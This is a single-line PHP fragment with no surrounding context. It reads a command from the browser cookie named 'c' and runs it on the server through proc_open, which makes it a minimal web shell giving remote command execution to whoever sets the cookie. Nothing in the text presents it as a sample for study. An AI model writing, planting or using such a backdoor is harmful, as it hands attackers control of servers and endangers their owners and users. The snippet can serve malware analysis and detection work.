<?php $c = trim($_COOKIE['c']); $p = proc_open($c, array(), $pipes);
